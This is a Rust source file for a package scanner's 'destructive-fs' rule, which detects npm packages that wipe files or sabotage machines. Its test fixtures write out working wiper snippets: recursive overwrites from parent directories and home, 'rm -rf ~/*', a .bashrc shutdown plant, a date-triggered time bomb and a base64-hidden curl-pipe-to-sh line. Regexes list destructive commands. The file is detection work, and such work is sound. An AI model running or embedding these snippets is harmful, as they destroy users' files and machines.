//! Rule `destructive-fs`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
    /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
    /// every file found while walking parent directories (in a bundle, with the parent named
    /// near the walk) or the installing project or the home folder (with one fixed text and no
    /// file read first), a planted command (`shutdown -h`, `rm -rf`, a `curl`/`wget` download, a
    /// pipe into `sh`) written to a shell rc file with the file's path and the command around
    /// the write, and a time bomb: after a fixed date, emptying every file a recursive walk
    /// finds. Encrypting the user's files is `ransomware`.
    id: "destructive-fs",
    category: Other,
    severity: High,
    capability: Some(crate::model::Capability::FilesystemWrite),
    title: "destroys files or sabotages the machine",
    incident: "node-ipc 10.1.1 (2022) overwrote every file for Russian/Belarusian IPs; Shai-Hulud 2 wiped $HOME; Nx appended shutdown to .bashrc",
    case_file: "index.js",
    flag: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764'); } }; walk(path.resolve(process.cwd(), '..', '..'))",
           "execSync('rm -rf ~/*')", "fs.rmSync(os.homedir(), { recursive: true, force: true })",
           "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
           "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
           "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
           "const { readdir, writeFile } = require('fs/promises'); const MSG = 'Peace.'; async function w(d) { for (const e of await readdir(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) await w(p); else await writeFile(p, MSG) } } w(os.homedir())",
           "const NOTE = 'No war.'; const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else if (/\\.(js|json)$/.test(e.name)) fs.writeFileSync(p, NOTE) } }; w(process.env.INIT_CWD || process.cwd())"],
    pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
           "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
           // a codemod reads every file it rewrites; a scaffolder drops empty placeholders
           "const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else fs.writeFileSync(p, fs.readFileSync(p, 'utf8').replace(/var /g, 'let ')) } }; w(process.cwd())",
           "const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) { fs.writeFileSync(path.join(p, '.gitkeep'), ''); w(p) } } }; w(process.cwd())",
           // vite 5.2.10: lists directories in one function, writes a fixed package.json into
           // its cache in another, and names '..' elsewhere; no walk overwrites anything
           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
}

/// How far (in bytes) before and after a write to a shell start-up file its path and the
/// command it plants must sit to be part of that write.
const RC_BEFORE: usize = 2_000;
const RC_AFTER: usize = 600;

/// The offset of a write that puts a sabotaging command (`shutdown -h`, `rm -rf`, a `curl`/`wget`
/// download, a pipe into `sh`) into a shell start-up file: the start-up file named as a path (`'.bashrc'`,
/// `~/.zshrc`) and the command both around the write, in the source or in a string decoded
/// there. Not a bundle that appends a completion line in one module and names `curl` in a MIME
/// table or `options.profile` in others (@codspeed/core 5.7.1, @napi-rs/cli 3.10.12, @rspack/core
/// 2.3.3, vitepress 1.6.4).
fn rc_tamper(f: &crate::package::FileCtx, js: &crate::js::JsFacts) -> Option<u32> {
    let rc_path = crate::regex!(r#"['"`/\\]\.(bashrc|zshrc|bash_profile|profile)\b"#);
    // Commands, not words: `vnd.curl` in a MIME table or a `shutdown()` handler plants nothing.
    let payload = crate::regex!(
        r"shutdown\s+(-|now)|rm\s+-rf|\b(curl|wget)\s+(-|https?://)|\|\s*(ba|z)?sh\b"
    );
    js.calls
        .iter()
        .filter(|c| c.path.starts_with("fs.appendFile") || c.path.starts_with("fs.writeFile"))
        .find(|c| {
            let at = c.off as usize;
            let lo = at.saturating_sub(RC_BEFORE);
            let hi = (at + RC_AFTER).min(f.text.len());
            let window = f.text.get(lo..hi).unwrap_or("");
            let decoded = js
                .derived
                .iter()
                .filter(|(_, o)| (lo..hi).contains(&(*o as usize)))
                .map(|(s, _)| s.as_str());
            let near =
                |re: &regex::Regex| re.is_match(window) || decoded.clone().any(|s| re.is_match(s));
            near(rc_path) && near(payload)
        })
        .map(|c| c.off)
}

/// Whether `'..'` (or a climb like `'../../'`) is written within a walk's reach of `off`.
fn parent_near(f: &crate::package::FileCtx, js: &crate::js::JsFacts, off: u32) -> bool {
    let at = off as usize;
    let lo = at.saturating_sub(2 * WALK_WINDOW);
    let hi = (at + WALK_WINDOW).min(f.text.len());
    let parent = |s: &str| {
        ["'..'", "\"..\"", "'../", "\"../", "`../"]
            .iter()
            .any(|p| s.contains(p))
    };
    f.text.get(lo..hi).is_some_and(parent)
        || js
            .derived
            .iter()
            .any(|(d, o)| (lo..hi).contains(&(*o as usize)) && d.starts_with(".."))
}

/// Whether a call is `fs.<name>…` of node's fs module, callback or promise API (`fs.promises.`,
/// `fs/promises.`).
fn fs_call(path: &str, name: &str) -> bool {
    ["fs.", "fs.promises.", "fs/promises."]
        .iter()
        .any(|p| path.strip_prefix(p).is_some_and(|r| r.starts_with(name)))
}

/// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
/// (node-ipc 10.1.1: about 520 bytes; vite 5.2.10's unrelated write: 227,000).
const WALK_WINDOW: usize = 1_500;

fn check(pkg: &Package, out: &mut Emitter) {
    let shell = crate::regex!(
        r#"(?i)\brm\s+-[a-z]*r[a-z]*f?[a-z]*\s+(~|\$HOME|\$\{?HOME\}?|/\s|/\*|/['"`]|\.\./\.\.)|\bshred\s+-[a-z]*u|\bdel\s+/[fsq]\s+/[fsq]|\bcipher(\.exe)?\s+/w|\brd\s+/s\s+/q\s+[a-z]:\\|\bmkfs\.|\bdd\s+if=/dev/(zero|random)\s+of=/dev/|shutdown\s+-h\s+(0|now)|format\s+c:"#
    );
    let rc = crate::regex!(r"\.(bashrc|zshrc|bash_profile|profile)\b");
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        if !crate::mentions!(
            all_text(f),
            [
                "rm ",
                "rm\t",
                "shred",
                "del ",
                "cipher",
                "rd ",
                "mkfs",
                "dd ",
                "shutdown",
                "format",
                "rmSync",
                "rm(",
                "rmdir",
                "rimraf",
                "remove",
                "bashrc",
                "zshrc",
                "profile",
                "writeFile"
            ]
        ) {
            continue;
        }
        let comment = |o: u32| {
            let o = o as usize;
            let start = f.text[..o.min(f.text.len())]
                .rfind('\n')
                .map_or(0, |i| i + 1);
            let line = f.text[start..].trim_start();
            line.starts_with("//")
                || line.starts_with('*')
                || line.starts_with('#') && !line.starts_with("#!")
        };
        if let Some((off, m)) = find_text(f, shell).into_iter().find(|(o, _)| !comment(*o)) {
            out.hit(pkg, f, off, format!("destructive command ({})", m.trim()));
            continue;
        }
        let Some(js) = &f.js else { continue };
        if let Some(c) = js.calls.iter().find(|c| {
            matches!(
                c.path.as_str(),
                "fs.rmSync"
                    | "fs.rm"
                    | "fs.rmdirSync"
                    | "fs.rmdir"
                    | "fs/promises.rm"
                    | "fs.promises.rm"
                    | "rimraf"
                    | "rimraf.sync"
                    | "fs-extra.removeSync"
                    | "fs-extra.remove"
            ) && (c.arg_path(0).is_some_and(|p| {
                p == "os.homedir" || p == "process.env.HOME" || p == "process.env.USERPROFILE"
            }) || c
                .arg_lit(0)
                .is_some_and(|l| matches!(l, "/" | "~" | "C:\\" | "../" | "../../")))
        }) {
            out.hit(
                pkg,
                f,
                c.off,
                format!("removes the home directory or the root ({})", c.path),
            );
            continue;
        }
        let text = all_text(f);
        if rc.is_match(text)
            && let Some(off) = rc_tamper(f, js)
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                off,
                "tampers with shell start-up files (.bashrc/.zshrc)",
            );
            continue;
        }
        // The overwrite must sit in the walk itself: within a few lines after a directory
        // listing. A bundle that lists a directory in one function and writes a fixed
        // package.json in another (vite 5.2.10's dependency optimiser) walks nothing.
        let listings: Vec<u32> = js
            .calls
            .iter()
            .filter(|c| fs_call(&c.path, "readdir"))
            .map(|c| c.off)
            .collect();
        let in_walk = |off: u32| {
            listings
                .iter()
                .any(|&l| l <= off && ((off - l) as usize) < WALK_WINDOW)
        };
        let walks = !listings.is_empty();
        let writes = js
            .calls
            .iter()
            .find(|c| fs_call(&c.path, "writeFile") && in_walk(c.off));
        // Each finding below needs `writes` or `overwrites` (a write inside a walk, which
        // `overwrites` narrows): without one, skip the searches of the text that follow.
        if writes.is_none() {
            continue;
        }
        let derived = |w: &str| js.derived.iter().any(|(d, _)| d == w);
        let climbs = text.contains("'../../'")
            || text.contains("\"../../\"")
            || text.contains("'../../../'")
            || derived("../../");
        let root = text.contains("'/'") || text.contains("\"/\"") || derived("/");
        // A recursive walk from above the project that overwrites what it finds with constant
        // content (node-ipc 10.1.1 and its locale-keyed imitators).
        let overwrites = js.calls.iter().find(|c| {
            fs_call(&c.path, "writeFile")
                && c.arg_lit(1).is_some()
                && c.arg_lit(0).is_none()
                && in_walk(c.off)
        });
        let above = text.contains("\"..\"") || text.contains("'..'") || climbs;
        let recursive = js
            .calls
            .iter()
            .filter(|c| fs_call(&c.path, "readdir"))
            .count()
            >= 1
            && (text.contains("isDirectory") || text.contains("withFileTypes"));
        // A time bomb: after a fixed date, a recursive walk empties or overwrites what it finds.
        let bomb = crate::regex!(
            r#"new Date\(\s*['"`]\d{4}-\d{2}-\d{2}|Date\.UTC\(\s*20\d\d|getFullYear\(\)\s*[><]=?\s*20\d\d"#
        );
        if let (true, Some(w)) = (walks && recursive, overwrites)
            && bomb.is_match(text)
            && (text.contains("Date.now()") || text.contains("new Date()"))
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                w.off,
                "after a fixed date, walks directories and overwrites every file with fixed content",
            );
            continue;
        }
        // In a bundle the parent directory must be named near the walk: vitepress 1.6.4 bundles
        // fs-extra (`emptyDir` lists a directory, the next module's `createFile` writes an empty
        // file) and names '..' in unrelated modules 40 KB away.
        let bundle = f.minified || f.text.len() > 200 * 1024;
        let above = above && (!bundle || overwrites.is_some_and(|w| parent_near(f, js, w.off)));
        if let (true, true, Some(w)) = (walks && recursive, above, overwrites) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks directories from above the project and overwrites every file with fixed content",
            );
            continue;
        }
        // The same walk started at the project that installs the package (`INIT_CWD`, the
        // working directory) or at the home folder, overwriting every file with one fixed,
        // non-empty text and never reading a file first: a code formatter or codemod reads what
        // it rewrites, and a generator writing empty placeholders writes nothing of its own.
        let project = text.contains("INIT_CWD")
            || text.contains("process.cwd()")
            || js.calls.iter().any(|c| c.path == "os.homedir");
        let reads = js.calls.iter().any(|c| fs_call(&c.path, "readFile"));
        let fixed_text = overwrites.filter(|c| c.arg_lit(1).is_some_and(|l| !l.trim().is_empty()));
        if let (true, true, false, Some(w)) = (walks && recursive, project, reads, fixed_text) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks the installing project or the home folder and overwrites every file with fixed content",
            );
            continue;
        }
        if let (true, Some(w), true, true) = (walks, writes, climbs, root) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks parent directories up to the root and overwrites the files it finds",
            );
        }
    }
}

#[cfg(test)]
mod rc_tests {
    use crate::model::Severity;
    use crate::rules::testing::{first_severity, run};

    /// A CLI bundle that appends its completion line to ~/.zshrc on request, and far away in
    /// other modules names `curl` (a MIME table) and `options.profile` (@codspeed/core 5.7.1,
    /// @napi-rs/cli 3.10.12): no start-up file is sabotaged.
    #[test]
    fn completion_line_in_a_bundle_naming_curl_elsewhere_is_not_rc_tampering() {
        let filler = "function f(a) { return a + 1; }\n".repeat(200);
        let src = format!(
            "const fs = require('fs'); const os = require('os'); const path = require('path');\n\
             function install() {{ fs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\nsource <(mycli completion zsh)\\n'); }}\n\
             {filler}const types = {{ 'application/vnd.curl': {{ compressible: false }} }};\n\
             const profile = options.profile; if (stopping) shutdown(server);\n"
        );
        let hits = run(&super::RULE, "dist/cli.js", &src);
        assert!(hits.is_empty(), "{hits:?}");
    }

    /// The same append carrying a download-and-run line, its path and payload built a few lines
    /// above the write, one of them base64-encoded.
    #[test]
    fn a_download_line_appended_to_bashrc_is_critical() {
        let src = "const fs = require('fs'); const os = require('os');\n\
            const rc = os.homedir() + '/.bashrc';\n\
            const line = Buffer.from('Y3VybCAtcyBodHRwczovL2guZXhhbXBsZS94IHwgc2g=', 'base64').toString();\n\
            fs.appendFileSync(rc, '\\n' + line + '\\n');\n";
        let (severity, hits) = first_severity(&super::RULE, "index.js", src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }
}

#[cfg(test)]
mod bundle_tests {
    use crate::rules::testing::run;

    const EMPTY_DIR: &str = "function emptyDirSync(dir) { let items; try { items = fs.readdirSync(dir) } catch { return mkdirsSync(dir) } items.forEach(item => { item = path.join(dir, item); removeSync(item) }) }\nfunction createFileSync(file) { const dir = path.dirname(file); if (!fs.statSync(dir).isDirectory()) fs.readdirSync(dir); fs.writeFileSync(file, '') }\n";

    /// vitepress 1.6.4 bundles fs-extra: a listing, an empty-file creation right after it, and
    /// `'..'` only in modules far away.
    #[test]
    fn fs_extra_in_a_bundle_with_parent_paths_far_away_is_no_wipe() {
        let filler = "function f(a) { return a + 1; }\n".repeat(7000);
        let src = format!("{EMPTY_DIR}{filler}const up = path.resolve(root, '..');\n");
        assert!(run(&super::RULE, "dist/chunk.js", &src).is_empty());
    }

    /// The same bundle with the climb right beside the walk is still a wipe.
    #[test]
    fn a_walk_from_the_parent_in_a_bundle_is_still_found() {
        let filler = "function f(a) { return a + 1; }\n".repeat(7000);
        let src = format!(
            "{filler}function walk(d) {{ for (const e of fs.readdirSync(d, {{ withFileTypes: true }})) {{ const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, 'x') }} }}\nwalk(path.resolve(process.cwd(), '..'));\n"
        );
        assert!(!run(&super::RULE, "dist/chunk.js", &src).is_empty());
    }
}
